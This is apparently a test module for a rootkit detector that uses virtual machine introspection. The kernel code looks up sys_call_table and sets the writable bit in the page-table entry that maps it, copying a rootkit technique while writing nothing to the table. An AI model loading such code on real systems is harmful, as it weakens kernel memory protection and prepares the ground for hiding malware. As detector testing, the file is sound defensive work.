// SPDX-License-Identifier: GPL-2.0
/*
 * vmi_pagerw: makes the page that holds sys_call_table writable by setting the
 * writable bit in the kernel page-table entry that maps it (lookup_address), the way a
 * rootkit writes read-only kernel data without touching CR0.WP. Nothing is written to
 * the table itself: the detector must notice the page's rights.
 */
#include <linux/module.h>
#include <linux/mm.h>
#include <asm/pgtable.h>
#include "vmi_attack.h"

static int __init vmi_pagerw_init(void)
{
	unsigned long table = vmi_lookup("sys_call_table");
	unsigned int level;
	pte_t *pte;

	if (!table) {
		pr_err("vmi_pagerw: no sys_call_table\n");
		return -ENOENT;
	}
	pte = lookup_address(table, &level);
	if (!pte) {
		pr_err("vmi_pagerw: sys_call_table is not mapped\n");
		return -EFAULT;
	}
	/* the leaf entry of any level (a 2 MiB page's is a PMD entry) */
	set_pte(pte, __pte(pte_val(*pte) | _PAGE_RW));
	pr_info("vmi_pagerw: the page of sys_call_table (%lx, level %u) is writable\n",
		table, level);
	return 0;
}

module_init(vmi_pagerw_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmi detector test: map sys_call_table's page writable");
